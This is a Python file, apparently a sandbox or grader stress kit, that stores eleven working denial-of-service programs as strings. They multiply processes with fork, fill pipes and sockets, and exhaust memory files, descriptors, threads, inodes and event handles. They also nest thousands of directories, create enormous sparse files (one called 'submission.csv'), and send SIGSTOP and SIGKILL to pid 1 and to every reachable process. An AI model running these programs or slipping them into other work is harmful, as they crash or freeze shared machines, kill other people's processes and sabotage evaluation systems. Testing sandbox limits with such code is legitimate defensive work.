"""Programs that exhaust one thing each, and end when there is no more of it."""

BEGINNING = """
import fcntl, itertools, os, select, socket, sys, threading, time
def forked(times):
    for _ in range(times):
        os.fork()
def until_refused(take):
    held = []
    try:
        while True:
            held.append(take())
    except (OSError, RuntimeError, MemoryError) as error:
        print(len(held), error, flush=True)
def filled(reader, writer):
    os.set_blocking(writer, False)
    try:
        while True:
            os.write(writer, bytes(65536))
    except BlockingIOError:
        return reader, writer
"""
BOMBS = {
    "memory files without a name": """
def take():
    file = os.memfd_create("bomb")
    os.write(file, bytes(4 << 20))
    return file
until_refused(take)""",
    "full pipes": """
forked(5)
def take():
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(writer, 1031, 1 << 20)
    except PermissionError:
        pass
    return filled(reader, writer)
until_refused(take)""",
    "full sockets": """
forked(4)
def take():
    one, other = socket.socketpair()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    filled(other.fileno(), one.fileno())
    return one, other
until_refused(take)""",
    "descriptors on their way": """
forked(3)
def take():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.setblocking(False)
    try:
        while True:
            socket.send_fds(one, [b"x"], [one.fileno()] * 200)
    except BlockingIOError:
        return one, other
until_refused(take)""",
    "threads": """
def take():
    thread = threading.Thread(target=time.sleep, args=(60,), daemon=True)
    thread.start()
until_refused(take)
os._exit(0)""",
    "open files in every process": """
forked(5)
until_refused(lambda: os.open("/dev/null", os.O_RDONLY))""",
    "watches and timers": """
forked(4)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def take():
    made = [select.epoll(), libc.inotify_init1(0), libc.eventfd(0, 0), libc.timerfd_create(1, 0)]
    if -1 in made:
        raise OSError(ctypes.get_errno(), "refused")
    return made
until_refused(take)""",
    "processes that stop and kill what they can": """
import signal
forked(3)
for number in (signal.SIGSTOP, signal.SIGCONT, signal.SIGTERM, signal.SIGKILL):
    for pid in (1, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass""",
    "inodes": """
def take(number=itertools.count()):
    os.close(os.open(f"many-{next(number)}", os.O_CREAT | os.O_WRONLY))
until_refused(take)""",
    "folders in folders": """
def take():
    os.mkdir("d")
    os.chdir("d")
for _ in range(3000):
    take()
os.symlink("/", "up")""",
    "sparse and endless files": """
for name in ("sparse", "submission.csv"):
    with open(name, "wb") as file:
        for size in (1 << 62, 1 << 43, 1 << 41, 1 << 34):
            try:
                file.truncate(size)
                break
            except OSError:
                pass""",
}
